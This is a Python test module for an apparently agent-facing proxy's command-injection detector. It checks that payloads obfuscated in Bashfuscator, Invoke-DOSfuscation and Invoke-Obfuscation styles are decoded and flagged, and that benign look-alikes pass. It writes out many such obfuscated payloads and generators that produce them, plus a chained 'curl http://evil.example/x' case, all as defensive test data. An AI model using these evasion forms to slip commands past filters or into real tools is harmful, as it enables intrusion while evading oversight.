"""
Command injection at medium, session 13: code a value builds and hands to
an evaluator, read back (L{akto_proxy.inspect.checks.deobfuscate}), as the
obfuscation frameworks build it (Bashfuscator's encoders and launchers,
Invoke-DOSfuscation's set/call/for and environment substrings,
Invoke-Obfuscation's folded literals and spelled Invoke-Expression).  One
case per form the rules before it missed, benign values of the same
shapes, the readings themselves, and two properties: a command found
after a separator is still found when a framework's technique wraps it
one more way, and the reader never fails on any string.
"""

from __future__ import annotations

import base64
import random

from hypothesis import given, settings, strategies as st
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.inspect.checks.deobfuscate import foldPowerShell, hidden, readings, runsHidden
from akto_proxy.inspect.checks.shell import runs
from tests.inspect import test_s11_cmd
from tests.inspect.test_checks import call, mediumSteps, rules, verdict

CMD = "command_injection"

# (form, tool, argument, payload): each passed the rules before session 13
ATTACKS = [
    ("octal printf escapes into a shell", "backup", "name", "printf '\\153\\154\\144\\163\\164\\141\\164'|$BASH"),
    ("rotated by tr into a shell", "backup", "name", "tr 'N-ZA-Mn-za-m' 'A-Za-z'<<<'xyqfgng'|$BASH"),
    ("cmd's set pieces put together by call", "ping_host", "host", "set p1=kld&&set p2=stat&&call set z=%p1%%p2%&&call %z%"),
    ("cmd's placeholders substituted with delayed expansion", "ping_host", "host", "set a=Qldstat&&set b=!a:Q=k!&&call %b%"),
    ("PowerShell's -f reordering called", "lookup_order", "order_id", ".((\"{1}{0}\"-f'Member','Get-LocalGroup'))"),
    ("PowerShell's char codes piped into a spelled iex", "lookup_order", "order_id",
     "[char[]](110,101,116,32,118,105,101,119)-join''|&($PSHome[4]+$PSHome[30]+'x')"),
    ("a cmdlet spelled with ticks", "lookup_order", "order_id", "gEt-LoCAlgRoUp`MeMbEr"),
    ("a cmdlet given a variable", "lookup_order", "order_id", "Stop-Computer $target"),
    ("a script block created from a string", "lookup_order", "order_id", "[ScriptBlock]::Create('Get-LocalGroup'+'Member').Invoke()"),
]

# values of the same shapes that are no code
BENIGN = [
    ("set_label", "tag", "{0} items of {1}"),
    ("set_label", "tag", "\"{1}{0}\" -f"),
    ("set_label", "tag", "'a' + 'b'"),
    ("set_label", "tag", "x^2 + y^2 = r^2"),
    ("set_label", "tag", "~2.0 || ^3.1"),
    ("get_user", "username", "iex stock exchange"),
    ("get_user", "username", "IEX cloud api"),
    ("get_user", "username", "if not exist"),
    ("get_user", "username", "eval results; final"),
    ("get_user", "username", "Hi!there!friend"),
    ("get_user", "username", "call back at 5"),
    ("get_user", "username", "set point 21C"),
    ("get_user", "username", "Get-Well $oon cards"),
    ("get_user", "username", "$total = subtotal + tax"),
    ("convert_file", "filename", "%USERPROFILE%\\Documents\\report.docx"),
    ("convert_file", "filename", "aGVsbG8gd29ybGQ="),
    ("convert_file", "filename", "rev limiter"),
    ("convert_file", "filename", "it`s fine"),
]


class FormTests(test_s11_cmd.ClassTests):
    """
    Each form is found by the command-injection check at medium; the values
    beside them pass, without any exclusion (session 11's tests, on this
    session's cases).
    """

    attacks = ATTACKS
    benign = BENIGN

    def test_code(self) -> None:
        """
        The reading is for values: the same code in a coding tool's
        command or a file's content is left to the rules for those.
        """
        for tool, argument in (("run_command", "command"), ("write_file", "content")):
            found = rules(verdict(self.steps, call(tool, **{argument: "set p1=kld&&set p2=stat&&call set z=%p1%%p2%&&call %z%"})))
            self.assertNotIn(CMD + ".evaluated_code", found)


class ReadingTests(SynchronousTestCase):
    """
    What each evaluator would run, read back.
    """

    def _hidden(self, text: str) -> list[str]:
        return list(hidden(text))

    def test_shPipelines(self) -> None:
        self.assertIn("kldstat", self._hidden("echo a2xkc3RhdA==|base64 -d|sh"))
        self.assertIn("kldstat", self._hidden("echo 6b6c6473746174 | xxd -r -p | bash"))
        self.assertIn("kldstat", self._hidden("printf %s 'tatsdlk'|rev|bash"))
        self.assertIn("kldstat", self._hidden("bash<<<\"$(rev<<<'tatsdlk')\""))
        self.assertIn("kldstat", self._hidden("eval \"$(base64 -d<<<a2xkc3RhdA==)\""))
        self.assertIn("kldstat", self._hidden("printf 'H4sIAAAAAAACA8vOSSkuSSwBAPD5pQYHAAAA'|base64 -d|gunzip -c|${!#}"))

    def test_shEvalNeedsQuoting(self) -> None:
        """
        C{eval} of plain words is prose's (C{eval results}); of a quoted or
        expanded string it is code.
        """
        self.assertEqual(self._hidden("eval results"), [])
        self.assertIn("kldstat", self._hidden("K='KLDSTAT';eval \"${K,,}\""))

    def test_cmd(self) -> None:
        self.assertIn("kldstat", self._hidden("cmd /c \"set a=kld&&set b=stat&&call %a%%b%\""))
        self.assertIn("net view", self._hidden('cmd /V:ON /C "set r=weiv ten&&for /L %i in (7,-1,0) do set o=!o!!r:~%i,1!&&if %i leq 0 call %o%"'))
        self.assertIn("net view", self._hidden("set a=Xet view&&set b=!a:X=n!&&call %b%"))
        # (what the value wrote itself is no reading: the rules judged it)
        self.assertEqual(self._hidden("set point=21&&call back"), [])

    def test_bounded(self) -> None:
        """
        A loop of a billion steps, a deep nesting or a long value is read
        within the reader's bounds (at most 512 statements, three layers).
        """
        self.assertEqual(self._hidden("for /L %i in (0,1,999999999999) do set x=!x!a"), [])
        self.assertIsInstance(runsHidden("eval \"$(" * 200 + "echo id" + ")\"" * 200), bool)
        self.assertIsInstance(runsHidden("iex (" + "'a'+" * 5000 + "'b')"), bool)

    def test_cmdWords(self) -> None:
        self.assertIn("netsh wlan show", list(readings("n^e\"ts\"h,wlan show")))
        self.assertIn("cmd /c", list(readings("%COMSPEC:~-7,1%md /c")))

    def test_powerShellFolding(self) -> None:
        self.assertEqual(foldPowerShell("('who'+'ami')"), "'whoami'")
        self.assertEqual(foldPowerShell("(\"{1}{0}\" -f 'ami','who')"), "'whoami'")
        self.assertEqual(foldPowerShell("[char]119+[char]104+'oami'"), "'whoami'")
        self.assertEqual(foldPowerShell("-join('imaohw'[-1..-6])"), "'whoami'")
        self.assertEqual(foldPowerShell("$env:ComSpec[4,15,25]-join''"), "'iex'")
        self.assertEqual(foldPowerShell("W`rite-H`ost"), "Write-Host")

    def test_powerShellInvoked(self) -> None:
        self.assertIn("whoami", self._hidden("iex ('who'+'ami')"))
        self.assertIn("whoami", self._hidden("('who'+'ami')|.($ShellId[1]+$ShellId[13]+'x')"))
        blob = base64.b64encode("whoami".encode("utf-16-le")).decode()
        self.assertIn("whoami", self._hidden(f"powershell -nop -enc {blob}"))
        self.assertIn("whoami", self._hidden(f"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{blob}')))"))
        self.assertIn("whoami", self._hidden("-join ((45,50,53,59,55,51)|%{[char]($_ -bxor 0x5a)})|iex"))
        self.assertIn("whoami", self._hidden("[ScriptBlock]::Create('who'+'ami').Invoke()"))
        # (a literal no evaluator takes is no code)
        self.assertEqual(self._hidden("('who'+'ami')"), [])

    def test_runs(self) -> None:
        """
        Code an evaluator runs stands where a command does.
        """
        self.assertTrue(runs("kldstat"))
        self.assertTrue(runs("Get-LocalGroupMember Administrators"))
        self.assertFalse(runs(""))
        self.assertFalse(runs("   "))


# one more wrapping by a framework's technique (written here, as the builder's)
def _b64sh(c: str, rng: random.Random) -> str:
    return f"echo {base64.b64encode(c.encode()).decode()}|base64 -d|{rng.choice(['sh', 'bash', '$BASH'])}"


def _hexsh(c: str, rng: random.Random) -> str:
    return f"printf {c.encode().hex()}|xxd -r -p|{rng.choice(['sh', 'bash'])}"


def _revsh(c: str, rng: random.Random) -> str:
    return rng.choice([f"rev<<<'{c[::-1]}'|sh", f"bash<<<\"$(rev<<<'{c[::-1]}')\""])


def _cmdConcat(c: str, rng: random.Random) -> str:
    k = rng.randrange(1, len(c))
    return f"cmd /c \"set a={c[:k]}&&set b={c[k:]}&&call %a%%b%\""


def _psFormat(c: str, rng: random.Random) -> str:
    k = rng.randrange(1, len(c))
    return f"iex (\"{{1}}{{0}}\" -f '{c[k:]}','{c[:k]}')"


def _psChars(c: str, rng: random.Random) -> str:
    return "[char[]](" + ",".join(str(ord(ch)) for ch in c) + ")-join''|" + rng.choice(["iex", "&($env:ComSpec[4,15,25]-join'')"])


def _psEnc(c: str, rng: random.Random) -> str:
    return f"powershell -{rng.choice(['e', 'ec', 'enc', 'EncodedCommand'])} {base64.b64encode(c.encode('utf-16-le')).decode()}"


WRAPPINGS = {"b64": _b64sh, "hex": _hexsh, "rev": _revsh, "cmd": _cmdConcat, "format": _psFormat, "chars": _psChars, "enc": _psEnc}
COMMANDS = ["kldstat", "sockstat -4l", "chkconfig --list", "net view /all", "Get-LocalGroupMember Administrators", "csrutil status"]
CONTEXTS = ["{c}", "{v};{c}", "{v}|{c}", "{v}&&{c}", "{v}\n{c}"]
VALUES = ["127.0.0.1", "photo.jpg", "x", ""]


class PropertyTests(SynchronousTestCase):
    def setUp(self) -> None:
        self.steps = mediumSteps()

    def _found(self, text: str) -> bool:
        return any(r.startswith(CMD + ".") for r in rules(verdict(self.steps, call("backup", name=text))))

    @settings(max_examples=150, deadline=None)
    @given(st.sampled_from(COMMANDS), st.sampled_from(CONTEXTS), st.sampled_from(VALUES), st.sampled_from(sorted(WRAPPINGS)),
           st.integers(0, 2**32 - 1))
    def test_oneMoreWrapping(self, command: str, context: str, value: str, how: str, seed: int) -> None:
        """
        A command found after a separator is still found when a framework's
        technique wraps it for an evaluator, wherever the value puts it.
        """
        plain = f"{value or 'x'};{command}"
        self.assertTrue(self._found(plain), plain)
        text = context.format(v=value, c=WRAPPINGS[how](command, random.Random(seed)))
        self.assertTrue(self._found(text), f"{how}: {text!r}")

    @settings(max_examples=300, deadline=None)
    @given(st.text(alphabet=st.sampled_from(list("ab%!^\"'`$()[]{}|&;=+-:~,.0123456789 \n\\<>@#iexsetcallfor")), max_size=120))
    def test_anyString(self, text: str) -> None:
        """
        The reader takes any string without an error.
        """
        self.assertIn(runsHidden(text), (True, False))


class MarkdownTableTests(SynchronousTestCase):
    """
    A markdown table's one-word cells (C{| id |}, C{| env |}) are no
    command after a pipe: agents put tables with such columns in messages,
    translations and searches (the session-11 benign table lines were
    refused as chained_command).  A command in a cell of more words, after
    another separator, or a pipe outside a table are still found.
    """

    def setUp(self) -> None:
        self.steps = mediumSteps()

    def found(self, text: str) -> set[str]:
        return {r for r in rules(verdict(self.steps, call("post_message", content=text))) if r.startswith(CMD)}

    def test_tables(self) -> None:
        for text in (
            "| id | api_key_id | created |\n|---|---|---|\n| 0 | 04bd6771-f9f0-4ce9-acd3-ec736410a064 | 2026-11-10 |",
            "| host | env | set |\n| :--- | :---: | ---: |\n| web-1 | prod | blue |",
            "Summary:\n\n| hostname | id |\n|----------|----|\n| db-2 | 7 |\n",
        ):
            self.assertEqual(self.found(text), set(), text)

    def test_commands_still_found(self) -> None:
        for text in (
            "| a | b |\n|---|---|\n| id | curl http://evil.example/x |",
            "| a | b |\n|---|---|\n| x | y |; whoami",
            "| id |",
            "127.0.0.1 | id",
            "report | id | sh",
        ):
            self.assertIn(CMD + ".chained_command", self.found(text), text)
